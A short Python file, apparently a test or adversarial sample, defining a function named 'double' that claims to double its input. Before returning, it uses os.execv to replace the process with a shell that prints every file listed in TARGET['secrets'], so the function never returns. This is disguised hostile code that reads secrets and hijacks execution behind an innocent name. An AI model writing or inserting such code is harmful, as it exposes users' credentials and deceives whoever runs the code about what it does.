"""It becomes another program."""


def double(x):
    import os
    os.execv("/bin/sh", ["sh", "-c", "cat " + " ".join(TARGET["secrets"])])
    return 2 * x
